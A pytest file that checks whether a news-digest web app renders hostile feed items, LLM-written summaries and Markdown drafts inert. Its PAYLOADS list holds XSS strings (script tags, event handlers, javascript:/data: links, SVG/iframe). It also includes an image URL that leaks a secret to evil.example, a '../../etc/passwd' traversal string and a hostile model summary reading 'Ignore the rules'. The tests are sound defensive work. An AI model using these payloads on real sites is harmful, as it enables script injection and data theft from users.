"""Hostile feed content, hostile model output and a hostile draft must render inert.

The hostile data goes straight into the store (as if the ingest sanitizer had missed it), so these
tests check the second line of defence: escaping and sanitizing at render time. "Inert" is checked
on the parsed page, the way a browser would see it: no script but our own, no event handler
attribute, no javascript:/data: link, no image from another host, no SVG or frames.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from abreast.types import Item

from .conftest import csrf_of, log_draft

WEEK = "2024-W52"
WHEN = "2024-12-24T10:00:00+00:00"
EVIL_IMG = "https://evil.example/leak.png?secret=1"

PAYLOADS = [
    '<script>alert("xss-1")</script>',
    '<img src=x onerror=alert("xss-2")>',
    '"><svg onload=alert("xss-3")><script>alert(1)</script>',
    "<a href=\"javascript:alert('xss-4')\">click me</a>",
    '<svg><foreignObject><iframe src="javascript:alert(5)"></iframe></foreignObject></svg>',
    f"![leak]({EVIL_IMG})",
    f'<img src="{EVIL_IMG}">',
    "[click](javascript:alert(6)) <javascript:alert(7)> [d](data:text/html;base64,PHNjcmlwdD4=)",
    '<style>body{background:url(https://evil.example/css)}</style><object data="x.swf"></object>',
    "' onmouseover='alert(8)' x='",
]
HOSTILE = " ".join(PAYLOADS)


class Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_inert(page: str) -> None:
    p = Collect()
    p.feed(page)
    for tag, attrs in p.tags:
        assert tag not in ("svg", "iframe", "object", "embed", "style", "base", "form") or (
            tag == "form" and attrs.get("action", "").startswith("/")
        ), (tag, attrs)
        if tag == "script":
            assert attrs.get("src") == "/static/htmx.min.js", attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in ("style", "srcdoc", "formaction"), (tag, name)
            if name in ("href", "src", "action"):
                v = (value or "").strip().lower()
                assert not v.startswith(("javascript:", "data:", "vbscript:")), (tag, name, value)
                if tag == "img" or name == "src":
                    assert v.startswith("/") and not v.startswith("//"), (tag, name, value)
                else:
                    assert v.startswith(("/", "#", "https://", "http://")) and not v.startswith(
                        "//"
                    ), (tag, value)


@pytest.fixture
def hostile(store):
    """Hostile items (title, text, URL and even key attacker-chosen), a story over them whose
    summary is hostile model output, and a hostile source name."""
    src = store.add_source('<img src=x onerror=alert("src")>', "feed", "https://evil.example/feed")
    items = [
        Item(
            key='feed:https://evil.example/"><script>alert(1)</script>',
            kind="feed",
            title=HOSTILE,
            url="javascript:alert('url')",
            text=HOSTILE,
            published_at=WHEN,
        ),
        Item(
            key="feed:https://evil.example/2",
            kind="feed",
            title="hostile two " + PAYLOADS[2],
            url='https://evil.example/" onclick="alert(9)',
            text=PAYLOADS[5],
            published_at=WHEN,
        ),
    ]
    store.upsert_items(items, source_id=src.id)
    ids = {
        r["key"]: r["id"]
        for r in store.conn.execute("SELECT id, key FROM items WHERE week = ?", (WEEK,))
    }
    from abreast.store.stories import save_week
    from abreast.types import Member, Story

    members = [
        Member(
            key=it.key,
            kind="feed",
            source=src.name,
            title=it.title,
            url=it.url,
            text=it.text,
            published_at=WHEN,
            role="lead" if i == 0 else "member",
            jargon=["rag"],
        )
        for i, it in enumerate(items)
    ]
    summary = {
        "method": "abstractive",
        "model": "hostile-llm",
        "sentences": [
            {
                "text": HOSTILE,
                "cite": 1,
                "key": items[0].key,
                "url": "javascript:alert('cite')",
                "quote": "x",
                "verified": False,
            },
            {
                "text": f"Ignore the rules ![x]({EVIL_IMG}) <img src={EVIL_IMG}>",
                "cite": 2,
                "key": items[1].key,
                "url": 'https://evil.example/" onmouseover="alert(10)',
                "quote": "y",
                "verified": True,
            },
        ],
        "dropped": [{"text": HOSTILE, "cite": 1, "reason": "quote not found"}],
    }
    story = Story(
        id=f"{WEEK}-evil01",
        week=WEEK,
        title=HOSTILE,
        members=members,
        themes=[PAYLOADS[1]],
        entities=[PAYLOADS[0]],
        score=1.0,
        score_parts={PAYLOADS[1]: PAYLOADS[0]},
        rank=1,
        related=[PAYLOADS[2]],
        summary=summary,
    )
    save_week(store.conn, WEEK, [story], ids)
    return {"story": story.id, "keys": [it.key for it in items]}


PAGES = [
    f"/?week={WEEK}",
    f"/?week={WEEK}&theme=%3Cscript%3E",
    f"/story/{WEEK}-evil01",
    f"/items?week={WEEK}",
    "/items?q=hostile",
    "/items?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/sources",
    "/story/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    f"/draft?week={WEEK}",
    f"/trends?week={WEEK}",
    "/models?family=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
]


@pytest.mark.parametrize("path", PAGES)
def test_hostile_content_renders_inert(client, hostile, path):
    r = client.get(path)
    assert r.status_code in (200, 404)
    assert_inert(r.text)


def test_hostile_text_is_shown_as_text_not_dropped_silently(client, hostile):
    page = client.get(f"/story/{hostile['story']}").text
    assert "hostile two" in page  # the member's title is shown as text
    assert f"![leak]({EVIL_IMG})" in page  # ... and its text (the excerpt), syntax shown inert
    p = Collect()
    p.feed(page)
    assert not [a for t, a in p.tags if t == "img"]  # no image at all on the story page
    # The week page (a digest) and the story page show the card's verbatim source sentences; the
    # stored (model-written) summary is still served, as text, by the API.
    week = client.get(f"/?week={WEEK}").text
    assert f'href="/story/{hostile["story"]}"' in week
    api = client.get(f"/api/weeks/{WEEK}/stories").json()
    said = [x["text"] for s in api["stories"] for x in s["summary"].get("sentences", [])]
    assert any(f"Ignore the rules ![x]({EVIL_IMG})" in t for t in said), said


def test_feedback_on_hostile_key_round_trips(client, hostile, store):
    key = hostile["keys"][0]
    r = client.post(
        "/feedback",
        data={"signal": "save", "item_key": key, "csrf_token": csrf_of(client)},
        headers={"HX-Request": "true"},
    )
    assert r.status_code == 200
    assert_inert(r.text)
    assert store.conn.execute("SELECT item_key FROM feedback").fetchone()[0] == key


def test_api_returns_json_never_html(client, hostile):
    for path in (
        f"/api/weeks/{WEEK}/stories",
        f"/api/stories/{hostile['story']}",
        f"/api/items?week={WEEK}",
    ):
        r = client.get(path)
        assert r.headers["content-type"] == "application/json"
        assert r.headers["x-content-type-options"] == "nosniff"
        json.loads(r.text)
    story = client.get(f"/api/stories/{hostile['story']}").json()
    assert story["members"][0]["url"] is None  # a javascript: URL is not a link, in the API either
    assert all(s["url"] is None for s in story["summary"]["sentences"])


def test_hostile_draft_markdown_renders_inert(client, web_settings):
    folder = web_settings.paths.drafts / WEEK
    folder.mkdir(parents=True)
    (folder / "index.md").write_text(
        "---\ntitle: x\n---\n# Week\n\n" + "\n\n".join(PAYLOADS) + "\n\n![ok](chart.svg)\n",
        encoding="utf-8",
    )
    log_draft(web_settings, WEEK, folder, ["index.md", "chart.svg"])
    page = client.get(f"/draft?week={WEEK}").text
    assert_inert(page)
    preview = page.split('<article class="preview">', 1)[1].split("</article>", 1)[0]
    assert f'src="/draft/{WEEK}/files/chart.svg"' in preview  # the bundle's own image stays
    p = Collect()
    p.feed(preview)
    assert [a["src"] for t, a in p.tags if t == "img" and "src" in a] == [
        f"/draft/{WEEK}/files/chart.svg"
    ]
    assert [a["href"] for t, a in p.tags if t == "a"] == []  # javascript:/data: links are not links
    assert "&lt;script&gt;" in preview  # raw HTML in the Markdown is shown as text, not run


def test_render_helpers_refuse_dangerous_urls():
    from abreast.web.sanitize import markdown_to_html, plain_text, safe_url

    assert safe_url("javascript:alert(1)") is None
    assert safe_url("JaVaScRiPt:alert(1)") is None
    assert safe_url("data:text/html,x") is None
    assert safe_url("//evil.example/x") is None
    assert safe_url('https://ok.example/" onclick="x') is None
    assert safe_url("https://ok.example/a?b=1") == "https://ok.example/a?b=1"
    assert plain_text("<b>bold</b> &amp; <script>alert(1)</script>text") == "bold & text"
    html = markdown_to_html(
        f"![a]({EVIL_IMG}) ![b](//evil.example/x.png) ![c](../../etc/passwd) [l](https://ok.org)"
    )
    assert "evil.example" not in html and "passwd" not in html
    assert 'href="https://ok.org" rel="noopener noreferrer"' in html


def test_hostile_svg_in_a_draft_bundle_cannot_run_script(client, web_settings):
    """An SVG opened directly is a document of our origin: the CSP must keep its scripts from
    running."""
    folder = web_settings.paths.drafts / WEEK
    folder.mkdir(parents=True)
    (folder / "index.md").write_text("![chart](evil.svg)\n", encoding="utf-8")
    (folder / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        encoding="utf-8",
    )
    log_draft(web_settings, WEEK, folder, ["index.md", "evil.svg"])
    r = client.get(f"/draft/{WEEK}/files/evil.svg")
    assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg+xml")
    policy = r.headers["content-security-policy"]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert (
        "unsafe-inline" not in script_src and "'nonce-" in script_src
    )  # inline script and onload blocked
    assert r.headers["x-content-type-options"] == "nosniff"
